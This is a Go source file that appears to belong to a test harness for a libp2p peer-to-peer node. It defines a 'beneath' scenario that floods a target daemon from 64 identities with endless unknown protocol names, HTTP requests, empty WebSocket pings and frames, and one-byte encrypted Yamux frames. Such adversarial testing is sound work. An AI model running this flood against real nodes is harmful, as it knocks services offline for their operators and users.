package attack

import (
	"bufio"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/libp2p/go-libp2p/p2p/muxer/yamux"
	"github.com/libp2p/go-libp2p/p2p/net/upgrader"
	"github.com/libp2p/go-libp2p/p2p/security/noise"

	"p2pnode/node/datadir"
)

// socketPort is where the victim of [beneath] takes WebSocket connections.
const socketPort = daemonPort + 1

// beneath attacks with what lies under the streams of a connection.
func beneath() Scenario {
	return Scenario{
		Name: "beneath", Daemons: true,
		About: "sends without end what lies under the streams, from 64 identities: names of protocols before the encryption, requests for web pages where WebSocket is spoken, its pings and empty messages, and encrypted messages of one byte",
		Run: onField(plain, func(ctx context.Context, f *field) ([]Bar, error) {
			if err := f.learning(ctx, f.several(3, 4), func(c *datadir.Config) { c.Listen = append(c.Listen, socketOf(c.Listen[0])) }); err != nil {
				return nil, err
			}
			all, err := f.strangers(64, f.several(16, 64))
			if err != nil {
				return nil, err
			}
			return f.flood(ctx, "beneath the streams", func(ctx context.Context) {
				each(ctx, all, func(i int, s *stranger) { burrow(ctx, i, s) })
			})
		}),
	}
}

// socketOf is the address over WebSocket beside one over TCP.
func socketOf(addr string) string {
	return strings.Replace(addr, fmt.Sprintf("/tcp/%d", daemonPort), fmt.Sprintf("/tcp/%d/ws", socketPort), 1)
}

// burrow does one of five things on connections, and connects again when one is lost.
func burrow(ctx context.Context, i int, s *stranger) {
	do := []struct {
		port int
		dig  func(context.Context, net.Conn, *stranger) error
	}{{daemonPort, offer}, {socketPort, browse}, {socketPort, ring}, {socketPort, hollow}, {daemonPort, chop}}[i%5]
	for ctx.Err() == nil {
		_ = s.beneath(ctx, raid(i), do.port, do.dig)
		_ = rest(ctx, refused)
	}
}

// beneath opens a connection to the victim, and digs there until it is lost.
func (s *stranger) beneath(ctx context.Context, from netip.Addr, port int, dig func(context.Context, net.Conn, *stranger) error) error {
	limited, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	at := strings.Split(s.field.victim().addr, "/")[2]
	c, err := dialer{s.field.attacker, from}.DialContext(limited, "tcp4", net.JoinHostPort(at, strconv.Itoa(port)))
	if err != nil {
		return err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { _ = c.Close() })()
	return dig(ctx, c, s)
}

// repeat sends the same again and again, and reads what is answered.
func repeat(c net.Conn, what []byte) error {
	go io.Copy(io.Discard, c)
	for many := slices.Repeat(what, 1+(32<<10)/len(what)); ; {
		if _, err := c.Write(many); err != nil {
			return err
		}
	}
}

// preface begins what is said over a connection.
var preface = framed([]byte("/multistream/1.0.0\n"))

// offer names protocols that nobody knows, and never one to encrypt with.
func offer(_ context.Context, c net.Conn, _ *stranger) error {
	if _, err := c.Write(preface); err != nil {
		return err
	}
	return repeat(c, framed([]byte("x\n")))
}

// browse asks for web pages.
func browse(_ context.Context, c net.Conn, _ *stranger) error {
	return repeat(c, []byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"))
}

// ring sends pings of WebSocket, once it has said who it is.
func ring(ctx context.Context, c net.Conn, s *stranger) error {
	return s.upgraded(ctx, c, pingFrame)
}

// hollow sends messages of WebSocket in which nothing is.
func hollow(ctx context.Context, c net.Conn, s *stranger) error {
	return s.upgraded(ctx, c, dataFrame)
}

// The first bytes of WebSocket's frames: the last one of a message, and its kind.
const dataFrame, pingFrame = 0x82, 0x89

// upgraded changes to WebSocket, says who it is, and sends empty frames of a kind.
func (s *stranger) upgraded(ctx context.Context, c net.Conn, kind byte) error {
	const ask = "GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
	if _, err := io.WriteString(c, ask); err != nil {
		return err
	}
	w := &webSocket{Conn: c, in: bufio.NewReader(c)}
	for {
		line, err := w.in.ReadString('\n')
		if err != nil {
			return err
		}
		if line == "\r\n" {
			break
		}
	}
	if _, err := s.encrypt(ctx, w); err != nil {
		return err
	}
	return repeat(c, frameOf(kind, nil))
}

// webSocket is a connection over WebSocket, with only what is needed here.
type webSocket struct {
	net.Conn
	in   *bufio.Reader
	left uint64 // bytes of the frame
}

// frameOf is a frame that a client sends, with a mask of zeros.
func frameOf(kind byte, data []byte) []byte {
	b := binary.BigEndian.AppendUint16([]byte{kind, 0x80 | 126}, uint16(len(data)))
	if len(data) < 126 {
		b = []byte{kind, 0x80 | byte(len(data))}
	}
	return append(append(b, 0, 0, 0, 0), data...)
}

// Write implements [net.Conn], for less than 64 KiB.
func (w *webSocket) Write(p []byte) (int, error) {
	if _, err := w.Conn.Write(frameOf(dataFrame, p)); err != nil {
		return 0, err
	}
	return len(p), nil
}

// Read implements [net.Conn], for frames of less than 64 KiB.
func (w *webSocket) Read(p []byte) (int, error) {
	for w.left == 0 {
		var head [2]byte
		if _, err := io.ReadFull(w.in, head[:]); err != nil {
			return 0, err
		}
		if w.left = uint64(head[1]); w.left == 126 {
			if _, err := io.ReadFull(w.in, head[:]); err != nil {
				return 0, err
			}
			w.left = uint64(binary.BigEndian.Uint16(head[:]))
		}
	}
	n, err := w.in.Read(p[:min(uint64(len(p)), w.left)])
	w.left -= uint64(n)
	return n, err
}

// encrypt says who a stranger is, and that it speaks Yamux.
func (s *stranger) encrypt(ctx context.Context, c net.Conn) (net.Conn, error) {
	ask := slices.Concat(preface, framed([]byte(noise.ID+"\n")))
	if _, err := c.Write(ask); err != nil {
		return nil, err
	}
	if _, err := io.ReadFull(c, make([]byte, len(ask))); err != nil { // the answer says the same
		return nil, err
	}
	t, err := noise.New(noise.ID, s.Peerstore().PrivKey(s.ID()), []upgrader.StreamMuxer{{ID: yamux.ID}})
	if err != nil {
		return nil, err
	}
	return t.SecureOutbound(ctx, c, s.field.victim().id)
}

// together collects what is written when it should wait.
type together struct {
	net.Conn
	out   *bufio.Writer
	waits bool
}

// Write implements [net.Conn].
func (t *together) Write(p []byte) (int, error) {
	if t.waits {
		return t.out.Write(p)
	}
	return t.Conn.Write(p)
}

// chop sends a frame of Yamux that is as long as one can be, for no stream, each byte in an
// encrypted message of its own.
func chop(ctx context.Context, c net.Conn, s *stranger) error {
	under := &together{Conn: c, out: bufio.NewWriterSize(c, 64<<10)}
	secure, err := s.encrypt(ctx, under)
	if err != nil {
		return err
	}
	go io.Copy(io.Discard, secure)
	under.waits = true
	header := make([]byte, 12)
	binary.BigEndian.PutUint32(header[4:], 1)
	binary.BigEndian.PutUint32(header[8:], 1<<31)
	for what := header; ; what = header[:1] {
		if _, err := secure.Write(what); err != nil {
			return err
		}
	}
}
